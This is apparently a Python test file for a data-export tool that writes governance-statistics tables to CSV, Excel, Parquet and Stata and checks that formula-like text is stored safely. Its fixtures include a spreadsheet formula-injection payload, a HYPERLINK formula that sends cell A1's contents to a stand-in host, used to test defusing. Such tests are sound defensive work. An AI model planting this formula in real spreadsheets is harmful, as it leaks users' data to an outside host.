"""Exports: every table and the audit, read back in each format with the same rows and values."""

import numpy as np
import pandas as pd
import pytest

from analysis.cli import main
from analysis.dictionary import column_descriptions
from analysis.export import FORMATS, WORKBOOK, codebook, export, frames
from analysis.schemas import COLUMNS
from analysis.tables import TABLES, load_tables


@pytest.fixture(scope="module")
def expected():
    return frames(load_tables())


def _text(frame):
    return [c for c in frame.columns if not pd.api.types.is_numeric_dtype(frame[c])]


def _read_back(fmt, folder, name, frame):
    if fmt == "csv":
        types = {c: str for c in _text(frame)}
        return pd.read_csv(folder / f"{name}.csv", dtype=types, keep_default_na=False, na_values={c: [""] for c in frame.columns if c not in types})
    if fmt == "xlsx":
        got = pd.read_excel(folder / WORKBOOK, sheet_name=name, dtype={c: str for c in _text(frame)})
        return got.fillna({c: "" for c in _text(frame)})
    if fmt == "parquet":
        return pd.read_parquet(folder / f"{name}.parquet")
    return pd.read_stata(folder / f"{name}.dta")


def _assert_same(got: pd.DataFrame, want: pd.DataFrame, where: str):
    assert list(got.columns) == list(want.columns), where
    assert len(got) == len(want), where
    for column in want.columns:
        a, b = got[column].to_numpy(), want[column].to_numpy()
        if column in _text(want):
            assert [str(x) for x in a] == [str(x) for x in b], (where, column)
        else:
            assert np.allclose(a.astype(float), b.astype(float), equal_nan=True, rtol=0, atol=0), (where, column)


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_table_and_the_audit_read_back_the_same(fmt, tmp_path, expected):
    export(load_tables(), fmt, tmp_path)
    assert len(expected) == 13  # the eleven tables (the glossary among them), the audit of the findings and of the checks
    for name, frame in expected.items():
        _assert_same(_read_back(fmt, tmp_path, name, frame), frame, f"{fmt} {name}")
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []  # no temporary file left


def test_the_ledger_exports_every_finding_and_the_facts_in_base_units(tmp_path):
    export(load_tables(), "parquet", tmp_path)
    audit = pd.read_parquet(tmp_path / "audit.parquet")
    assert len(audit) == len(load_tables().findings)
    facts = pd.read_parquet(tmp_path / "facts.parquet").set_index("fact_id")
    # 东营: 401 powers delegated, 179 in normal use, stated as 44.6%
    assert facts.loc["dongying_powers_delegated", "value"] == 401
    assert audit.set_index("finding_id").loc["dongying_in_use_share", "status"] == "reproduced"


def test_the_workbook_has_one_sheet_per_table_and_a_codebook(tmp_path, expected):
    export(load_tables(), "xlsx", tmp_path)
    sheets = pd.ExcelFile(tmp_path / WORKBOOK).sheet_names
    assert sheets == [*expected, "codebook"]
    book = pd.read_excel(tmp_path / WORKBOOK, sheet_name="codebook", dtype=str).fillna("")
    assert (book["meaning"] != "").all(), book[book["meaning"] == ""]
    row = book[(book["table"] == "facts") & (book["column"] == "value")].iloc[0]
    assert row["type"] == "number" and row["meaning"].startswith("in base units")


def test_stata_files_carry_each_columns_meaning_as_its_label(tmp_path):
    export(load_tables(), "dta", tmp_path)
    with pd.io.stata.StataReader(tmp_path / "facts.dta") as reader:
        labels = reader.variable_labels()
    assert labels["as_written"] == column_descriptions()["facts"]["as_written"][:80]
    assert all(labels[c] for c in COLUMNS["facts"])


def test_every_column_of_every_table_is_described_in_the_dictionary(expected):
    book = codebook(expected)
    assert (book["meaning"] != "").all(), book[book["meaning"] == ""][["table", "column"]].to_string()


def test_the_export_command_writes_and_refuses_what_it_cannot(tmp_path, capsys):
    assert main(["export", "--format", "csv", "--out", str(tmp_path / "csv")]) == 0
    assert (tmp_path / "csv" / "codebook.csv").is_file() and (tmp_path / "csv" / "audit.csv").is_file()
    with pytest.raises(SystemExit) as stop:
        main(["export", "--format", "sav", "--out", str(tmp_path / "x")])
    assert stop.value.code == 2


def test_exported_files_have_the_permissions_of_a_plain_open(tmp_path):
    from analysis.outputs import FILE_MODE

    for path in export(load_tables(), "csv", tmp_path):
        assert path.stat().st_mode & 0o777 == FILE_MODE, path  # not mkstemp's owner-only 0600


FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"x")'


def _with_formulas(data):
    """The tables with text that spreadsheets would run (beside the ++区 of report 003, anonymised, already there)."""
    from tests.test_tables import set_cell

    set_cell(data / "facts.csv", 2, "note", FORMULA)
    set_cell(data / "facts.csv", 3, "note", "@SUM(1+1)")
    set_cell(data / "facts.csv", 4, "note", "#N/A")  # openpyxl would store it as an error value
    return load_tables(data)


def test_workbook_text_is_text_never_a_formula(data_copy, tmp_path):
    import openpyxl

    tables = _with_formulas(data_copy)
    export(tables, "xlsx", tmp_path)
    book = openpyxl.load_workbook(tmp_path / WORKBOOK)  # formulas stay formulas when read this way
    facts = book["facts"]
    header = [c.value for c in facts[1]]
    note, value = header.index("note") + 1, header.index("value") + 1
    for row, text in ((2, FORMULA), (3, "@SUM(1+1)"), (4, "#N/A")):
        cell = facts.cell(row=row, column=note)
        assert (cell.data_type, cell.value) == ("s", text)
    # data/facts.csv row 2: 88个 towns surveyed; row 54: 401項 powers delegated
    assert [(facts.cell(row=r, column=value).data_type, facts.cell(row=r, column=value).value)
            for r in (2, 54)] == [("n", 88), ("n", 401)]
    counties = book["counties"]
    anonymised = [c for c in counties["B"] if c.value == "++区"]  # name_zh of data/counties.csv row 13
    assert [(c.row, c.data_type) for c in anonymised] == [(13, "s")]
    plus = [c for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("++")]
    # every text cell of the tables and audits that begins ++ (the five reports' 33: test_five_reports_transcription)
    assert len(plus) == _cells_beginning(tables, ("++",)) and {c.data_type for c in plus} == {"s"}
    assert not [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type in ("f", "e")]


def _cells_beginning(tables, starts) -> int:
    """Text cells of every exported table (the audits and the codebook too) that begin with one of ``starts``."""
    exported = frames(tables)
    exported["codebook"] = codebook(exported)
    return sum(int(frame[column].map(lambda x: isinstance(x, str) and x.startswith(starts)).sum())
               for frame in exported.values() for column in frame.columns)


def _csv_cells(path):
    import csv

    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


def test_csv_holds_values_as_they_are_unless_made_spreadsheet_safe(data_copy, tmp_path):
    tables = _with_formulas(data_copy)
    export(tables, "csv", tmp_path / "plain")
    export(tables, "csv", tmp_path / "safe", spreadsheet_safe=True)
    plain, safe = _csv_cells(tmp_path / "plain" / "facts.csv"), _csv_cells(tmp_path / "safe" / "facts.csv")
    note, entity = plain[0].index("note"), plain[0].index("entity")
    assert [plain[r][note] for r in (1, 2, 3)] == [FORMULA, "@SUM(1+1)", "#N/A"]
    assert [safe[r][note] for r in (1, 2, 3)] == ["'" + FORMULA, "'@SUM(1+1)", "#N/A"]
    assert (plain[134][entity], safe[134][entity]) == ("++区 全区 district-wide", "'++区 全区 district-wide")  # row 135
    numeric = {"value", "low", "high"}
    defused = 0
    for name in [*TABLES, "audit", "audit_checks", "codebook"]:
        plain, safe = _csv_cells(tmp_path / "plain" / f"{name}.csv"), _csv_cells(tmp_path / "safe" / f"{name}.csv")
        assert plain[0] == safe[0] and len(plain) == len(safe), name
        for plain_row, safe_row in zip(plain[1:], safe[1:]):
            for column, a, b in zip(plain[0], plain_row, safe_row):
                if a.startswith(("=", "+", "-", "@")) and not (name == "facts" and column in numeric):
                    assert b == "'" + a, (name, column, a)
                    defused += 1
                else:
                    assert b == a, (name, column, a)
    assert defused == _cells_beginning(tables, ("=", "+", "-", "@")) >= 2  # the tables' own (++区 ...) and the 2 planted


def test_numbers_are_never_defused_and_only_formula_starts_are():
    from analysis.export import defuse_formulas

    frame = pd.DataFrame({"text": ["=1+1", "+86 10", "-3", "@A1", "\tx", "\rx", "a=b", "", "区"],
                          "number": [-3.0, 1.0, float("nan"), 0.0, -0.5, 2.0, 3.0, 4.0, 5.0]})
    got = defuse_formulas(frame)
    assert list(got["text"]) == ["'=1+1", "'+86 10", "'-3", "'@A1", "'\tx", "'\rx", "a=b", "", "区"]
    assert got["number"].equals(frame["number"])
    assert list(frame["text"])[0] == "=1+1"  # the caller's frame is left as it was


def test_spreadsheet_safe_is_refused_for_formats_that_keep_text_as_text(tmp_path, capsys):
    with pytest.raises(SystemExit) as stop:
        main(["export", "--format", "xlsx", "--spreadsheet-safe", "--out", str(tmp_path / "x")])
    assert stop.value.code == 2
    assert "argument --spreadsheet-safe: for --format csv only (xlsx keeps text as text)" in capsys.readouterr().err
    assert not (tmp_path / "x").exists()
    with pytest.raises(ValueError, match="spreadsheet_safe is for csv files"):
        export(load_tables(), "parquet", tmp_path / "p", spreadsheet_safe=True)
